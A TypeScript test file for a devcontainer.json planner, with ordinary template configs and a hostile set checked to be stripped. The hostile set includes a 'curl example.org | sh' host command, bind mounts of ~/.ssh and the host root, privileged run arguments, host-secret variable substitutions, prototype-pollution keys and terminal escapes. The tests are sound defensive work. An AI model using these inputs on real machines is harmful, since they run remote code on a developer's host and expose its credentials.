// biome-ignore-all lint/suspicious/noTemplateCurlyInString: as documents have them
/** Documents as people and strangers write them, and what is done with each. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  type DevcontainerPlace,
  type DevcontainerPlan,
  planDevcontainer,
  planDockerfile,
} from './plan-devcontainer.ts';

const PLACE: DevcontainerPlace = { name: 'app', below: '', id: '0a1b', at: null, handed: {} };

/** What is done when nothing is said */
const NOTHING: DevcontainerPlan = {
  image: { is: 'default' },
  user: null,
  at: '/workspaces/app',
  folder: '/workspaces/app',
  variables: [],
  stages: [],
  ports: [],
  runsImage: false,
  notes: [],
};

function plan(document: unknown, place: Partial<DevcontainerPlace> = {}): DevcontainerPlan {
  const text = typeof document === 'string' ? document : JSON.stringify(document);
  return planDevcontainer(Buffer.from(text), { ...PLACE, ...place });
}

const here = (hostPort: number, guestPort = hostPort) => ({ host: '127.0.0.1', hostPort, guestPort });
const shell = (line: string, label: string | null = null) => ({ label, argv: ['/bin/sh', '-c', line] });
const kept = (name: string, value: string) => ({ name, value, isKept: true });
const built = { is: 'built' as const, context: '.', target: undefined, args: [] as string[] };

type Case = [does: string, document: unknown, done: Partial<DevcontainerPlan>, place?: Partial<DevcontainerPlace>];

const REAL_WORLD: Case[] = [
  ['an empty one', '{}', {}],
  [
    'comments, trailing commas and a byte order mark',
    '\uFEFF// For VS Code\n{\n  /* the image */ "image": "python:3.14", // of the hub\n  "forwardPorts": [8000,],\n}\n',
    { image: { is: 'named', name: 'python:3.14' }, ports: [here(8000)] },
  ],
  [
    'what a template makes for Node',
    {
      $schema: 'https://example.org/schema.json',
      name: 'Node',
      image: 'example.org/devcontainers/typescript-node:22',
      features: {},
      customizations: { vscode: { extensions: ['a.b'], settings: { 'a.b': true } } },
      forwardPorts: [3000, '9229'],
      portsAttributes: { 3000: { label: 'web' } },
      postCreateCommand: 'npm ci',
      remoteUser: 'node',
    },
    {
      image: { is: 'named', name: 'example.org/devcontainers/typescript-node:22' },
      ports: [here(3000), here(9229)],
      stages: [{ name: 'postCreateCommand', runs: [shell('npm ci')] }],
      user: 'node',
    },
  ],
  [
    'a Dockerfile with arguments and a stage',
    {
      build: {
        dockerfile: 'Dockerfile',
        context: '..',
        args: { VARIANT: '3.14', UID: '${localEnv:UID}', NAME: '${localEnv:USER:dev}', N: 4 },
        target: 'dev',
        cacheFrom: 'example.org/cache',
      },
    },
    {
      image: {
        is: 'built',
        dockerfile: 'Dockerfile',
        context: '..',
        target: 'dev',
        args: ['VARIANT=3.14', 'NAME=dev', 'N=4'],
      },
      notes: [
        'Variables of this host are not the repository\'s: "UID" count as not set. "-e NAME" hands one to containerEnv and remoteEnv.',
      ],
    },
  ],
  [
    'an older one',
    { dockerFile: '../Dockerfile', context: '..', appPort: ['8080:80', 3000], extensions: ['a.b'], settings: {} },
    { image: { ...built, dockerfile: '../Dockerfile', context: '..' }, ports: [here(8080, 80), here(3000)] },
  ],
  [
    'commands of each form, in their order, with the names of folders in them',
    {
      postStartCommand: ['git', 'config', '--global', 'safe.directory', '${containerWorkspaceFolder}'],
      onCreateCommand: { 'npm deps': 'npm ci', db: ['createdb', 'app'], none: '' },
      updateContentCommand: 'cd ${localWorkspaceFolder} && make ${localWorkspaceFolderBasename} PATH="${HOME}:${PATH}"',
      postCreateCommand: [],
    },
    {
      stages: [
        { name: 'onCreateCommand', runs: [shell('npm ci', 'npm deps'), { label: 'db', argv: ['createdb', 'app'] }] },
        {
          name: 'updateContentCommand',
          runs: [shell('cd /workspaces/app && make app PATH="${HOME}:${PATH}"')],
        },
        {
          name: 'postStartCommand',
          runs: [{ label: null, argv: ['git', 'config', '--global', 'safe.directory', '/workspaces/app'] }],
        },
      ],
    },
  ],
  [
    'variables of the machine and of who works in it',
    {
      containerEnv: { MODE: 'dev', PORT: 8080, DEBUG: true, GONE: 'x' },
      remoteEnv: { PATH: '${containerEnv:PATH}:/opt/bin', GONE: null, MODE: 'test' },
    },
    {
      variables: [
        kept('MODE', 'test'),
        kept('PORT', '8080'),
        kept('DEBUG', 'true'),
        kept('PATH', '${containerEnv:PATH}:/opt/bin'),
      ],
    },
  ],
  [
    'a folder of its own by a mount, whose source does not count',
    {
      workspaceMount: 'source=${localWorkspaceFolder}/..,target=/workspace,type=bind,consistency=cached',
      workspaceFolder: '/workspace/api/',
    },
    { at: '/workspace', folder: '/workspace/api' },
  ],
  [
    'a folder in the usual place',
    { workspaceFolder: '/workspaces/${localWorkspaceFolderBasename}/api' },
    { folder: '/workspaces/app/api' },
  ],
  ['a folder elsewhere', { workspaceFolder: '/srv/app' }, { at: '/srv/app', folder: '/srv/app' }],
  [
    'one of a folder in a larger repository',
    { postCreateCommand: 'echo ${containerWorkspaceFolderBasename} ${localWorkspaceFolderBasename}' },
    {
      folder: '/workspaces/app/services/api',
      stages: [{ name: 'postCreateCommand', runs: [shell('echo api api')] }],
    },
    { below: 'services/api' },
  ],
  [
    'the place that the caller names goes first',
    { workspaceFolder: '/srv/app', postCreateCommand: 'ls ${containerWorkspaceFolder}' },
    { at: '/root/x', folder: '/root/x', stages: [{ name: 'postCreateCommand', runs: [shell('ls /root/x')] }] },
    { at: '/root/x' },
  ],
  [
    'an image that runs what it runs',
    { image: 'a', overrideCommand: false },
    { image: { is: 'named', name: 'a' }, runsImage: true },
  ],
  [
    'what a container needs and a machine has, or what is for editors',
    {
      privileged: true,
      capAdd: ['SYS_PTRACE'],
      securityOpt: ['seccomp=unconfined'],
      init: true,
      waitFor: 'postCreateCommand',
    },
    {},
  ],
];

const HOSTILE: Case[] = [
  [
    'what would run on this host, or reach its files',
    {
      initializeCommand: 'curl example.org | sh',
      mounts: ['source=${localEnv:HOME}/.ssh,target=/root/.ssh,type=bind'],
      runArgs: ['--privileged', '--volume=/:/host'],
      build: { dockerfile: 'D', options: ['--network=host'] },
      postAttachCommand: 'npm run dev',
      hostRequirements: { cpus: 64, memory: '4tb' },
      toString: 1,
    },
    {
      image: { ...built, dockerfile: 'D' },
      notes: [
        'initializeCommand is left out: it would run on this host.',
        'mounts is left out: nothing of this host is mounted into a machine.',
        'runArgs is left out: they are for a container engine.',
        'hostRequirements is left out: the size is yours to say, by --cpus, --memory and --disk-size.',
        'postAttachCommand is left out: it is for an editor that comes to the machine.',
        'build.options are left out: they are for a container engine.',
        'Unknown, and left out: "toString".',
      ],
    },
  ],
  [
    'variables of this host, by every way',
    {
      containerEnv: { A: '${localEnv:SECRET}', B: '${env:SECRET}', C: '${localEnv:SECRET:none}' },
      remoteEnv: { D: 'x${localEnv:TOKEN}', E: '${containerEnv:${localEnv:SECRET}}' },
      remoteUser: '${localEnv:USER}',
      postCreateCommand: ['echo', '${localEnv:SECRET}', '$SECRET', '${localEnv:HANDED}'],
    },
    {
      variables: [kept('C', 'none')],
      stages: [{ name: 'postCreateCommand', runs: [{ label: null, argv: ['echo', '', '$SECRET', ''] }] }],
      notes: [
        'Variables of this host are not the repository\'s: "USER", "SECRET", "TOKEN", "HANDED" count as not set. "-e NAME" hands one to containerEnv and remoteEnv.',
      ],
    },
    { handed: { HANDED: 'only for variables' } },
  ],
  [
    'what is handed over stands where it was asked for, and is not kept',
    {
      image: 'a:${localEnv:TAG:1}',
      containerEnv: { TOKEN: '${localEnv:GH_TOKEN}', MODE: 'dev' },
      build: {},
      postCreateCommand: 'echo ${localEnv:GH_TOKEN:-}',
    },
    {
      image: { is: 'named', name: 'a:1' },
      variables: [{ name: 'TOKEN', value: 'ghp', isKept: false }, kept('MODE', 'dev')],
      stages: [{ name: 'postCreateCommand', runs: [shell('echo -')] }],
    },
    { handed: { GH_TOKEN: 'ghp', TAG: 'mine' } },
  ],
  [
    'ports anywhere but on the loopback',
    { forwardPorts: ['db:5432', '0.0.0.0:80', 80, '[::]:81'], appPort: ['0.0.0.0:9000:9000', '127.0.0.1:9001:1', 80] },
    {
      ports: [here(80), here(81), here(9001, 1)],
      notes: [
        'forwardPorts: "db:5432" is a port of another machine, and is left out.',
        'appPort: "0.0.0.0:9000:9000" is left out; "banger vm run -p" takes addresses other than 127.0.0.1.',
      ],
    },
  ],
  [
    'names that programs stumble over',
    '{"__proto__": {"image": "evil"}, "constructor": {"x": 1}, "containerEnv": {"__proto__": "x", "A": "1"}}',
    { variables: [kept('A', '1')], notes: ['Unknown, and left out: "constructor".'] },
  ],
  [
    'what would change the terminal',
    { '\u001b[2Jkey': 1, forwardPorts: ['\u001b]0;x\u0007:80'] },
    {
      notes: ['Unknown, and left out: "key".', 'forwardPorts: ":80" is a port of another machine, and is left out.'],
    },
  ],
];

test('documents of people are done as they mean them', () => {
  for (const [does, document, done, place] of REAL_WORLD) {
    assert.deepEqual(plan(document, place), { ...NOTHING, ...done }, does);
  }
});

test('what a stranger writes reaches nothing of this host, and is named', () => {
  for (const [does, document, done, place] of HOSTILE) {
    assert.deepEqual(plan(document, place), { ...NOTHING, ...done }, does);
  }
});

test('what banger does not have is refused with a way out', () => {
  const refuse = (document: unknown, message: RegExp) =>
    assert.throws(() => plan(document), { code: 'DEVCONTAINER_UNSUPPORTED', message, hint: /Without --devcontainer/ });
  refuse(
    { features: { 'example.org/features/go:1': {}, b: {}, c: {}, d: {} } },
    /"example.org\/features\/go:1", "b", "c" …\.$/,
  );
  refuse({ dockerComposeFile: ['a.yml'], service: 'app' }, /several containers/);
});

test('what is not understood is told with its place or its name', () => {
  const REFUSED: [document: unknown, message: RegExp][] = [
    ['', /no JSON at line 1, column 1: value expected/],
    ['{\n  "image": "a"\n  "x": 1 }', /no JSON at line 3, column 3: comma expected/],
    ['{"a": "\\q"}', /no JSON .*invalid escape character/],
    ['{"a": 1} {}', /no JSON .*end of file expected/],
    ['[]', /It is not an object/],
    [`{"a": ${'['.repeat(200_000)}`, /nested deeper than 64/],
    [`{"a": ${'{"a":'.repeat(100)}1${'}'.repeat(100)}}`, /nested deeper than 64/],
    [{ image: 7 }, /"image" is not a text/],
    [{ image: '' }, /"image" is empty/],
    [{ image: 'a\0b' }, /"image" is not a text/],
    [{ image: '${localEnv:IMAGE}' }, /"image" needs a variable of this host.*"\$\{localEnv:IMAGE\}"/],
    [{ build: { context: '.' } }, /"build" names no "dockerfile"/],
    [{ build: { dockerfile: 'D', args: { 'A-B': '1' } } }, /"A-B" is no argument/],
    [{ build: 'Dockerfile' }, /"build" is not an object/],
    [{ forwardPorts: 3000 }, /"forwardPorts" is not a list/],
    [{ forwardPorts: [0] }, /no port/],
    [{ forwardPorts: [65_536] }, /no port/],
    [{ forwardPorts: [80.5] }, /no port/],
    [{ forwardPorts: ['http'] }, /no port/],
    [{ forwardPorts: Array.from({ length: 2000 }, () => 80) }, /not a list of at most/],
    [{ containerEnv: ['A=1'] }, /"containerEnv" is not an object/],
    [{ containerEnv: { 'A=B': '1' } }, /"A=B" in "containerEnv" is no name/],
    [{ containerEnv: { A: {} } }, /"containerEnv.A" is not a text/],
    [{ remoteUser: '-x' }, /"remoteUser" is no name of a user/],
    [{ remoteUser: 'a:b' }, /"remoteUser" is no name of a user/],
    [{ workspaceFolder: 'src' }, /"workspaceFolder" is not an absolute folder/],
    [{ workspaceFolder: '/..' }, /"workspaceFolder" is not an absolute folder/],
    [{ workspaceFolder: '/a\nb' }, /"workspaceFolder" is not an absolute folder/],
    [{ postCreateCommand: 7 }, /"postCreateCommand" is neither a command/],
    [{ postCreateCommand: ['a', 7] }, /"postCreateCommand" is not a text/],
    [{ postCreateCommand: { a: { b: 'c' } } }, /"postCreateCommand.a" is neither a command/],
    [
      { postCreateCommand: Object.fromEntries(Array.from({ length: 33 }, (_, at) => [`a${at}`, 'x'])) },
      /more than 32 commands/,
    ],
    [{ workspaceFolder: `/${'a'.repeat(2000)}` }, /"workspaceFolder" is not an absolute folder/],
    [
      { workspaceFolder: `/${'a'.repeat(1000)}`, postCreateCommand: '${containerWorkspaceFolder}'.repeat(30_000) },
      /too long/,
    ],
    [{ overrideCommand: 'no' }, /"overrideCommand" is neither true nor false/],
  ];
  for (const [document, message] of REFUSED) {
    assert.throws(
      () => plan(document),
      { code: 'DEVCONTAINER_INVALID', message },
      JSON.stringify(document).slice(0, 80),
    );
  }
  assert.throws(() => planDevcontainer(Uint8Array.of(0x7b, 0xff, 0x7d), PLACE), { message: /not UTF-8/ });
});

test('a Dockerfile alone is built, and the repository goes where it goes with a document', () => {
  assert.deepEqual(planDockerfile({ ...PLACE, below: 'api' }), {
    ...NOTHING,
    image: { ...built, dockerfile: 'Dockerfile' },
    folder: '/workspaces/app/api',
  });
});
